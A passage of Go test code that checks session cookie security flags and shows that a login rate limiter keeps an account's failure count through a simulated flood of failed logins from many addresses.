			if c == nil || c.Value == "" || !c.HttpOnly || c.SameSite != http.SameSiteStrictMode || c.Secure != tc.secure {
				t.Errorf("session cookie %+v: want HttpOnly, SameSite=Strict, Secure=%v", c, tc.secure)
			}
		})
	}
}

// TestLimiterFloodKeepsAccountCount: someone who fails from thousands of addresses and names
// (to push an account's failures out of the limiter's bounded memory) gets every attempt
// blocked instead, and the account's failures are kept for their whole window.
func TestLimiterFloodKeepsAccountCount(t *testing.T) {
	now := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	l := newLimiter(func() time.Time { return now })
	owner := []string{"ip:198.51.100.7", userKey("owner")}
	for range maxFailures - 1 {
		l.fail(owner...)
	}
	// The flood: each attempt asks first, as the login does, and fails when allowed.
	recorded := 0
	for i := 0; i < 2*maxTracked; i++ {
		now = now.Add(100 * time.Millisecond)
		keys := []string{fmt.Sprintf("ip:203.0.%d.%d", i/250, i%250), userKey(fmt.Sprint("guess", i))}
		if b, _ := l.blocked(keys...); b {
			continue
		}
		l.fail(keys...)
		recorded++
	}
	if recorded == 0 || l.len() > maxTracked {
		t.Fatalf("%d flood failures recorded, %d keys tracked", recorded, l.len())
	}
	e, ok := l.keys[userKey("owner")]
	if !ok || len(e.Value.(*failures).times) != maxFailures-1 {
		t.Fatalf("the account's failures were forgotten in the flood")
	}
	// A fresh address guessing the account now is refused.
	if b, wait := l.blocked("ip:192.0.2.99", userKey("owner")); !b || wait <= 0 {
		t.Errorf("a guess after the flood: blocked=%v wait=%v", b, wait)
	}
	// Once the account's failures have left the window, it may try again; the flood's
	// failures leave theirs in turn.
	now = time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC).Add(failureWindow)
	if b, _ := l.blocked("ip:192.0.2.99", userKey("owner")); b {
		t.Errorf("still blocked once the account's failures left the window")
	}
	now = now.Add(failureWindow)
	if b, _ := l.blocked("ip:192.0.2.99"); b || l.len() != 0 {
		t.Errorf("after every window: blocked=%v, %d keys", b, l.len())
	}
}
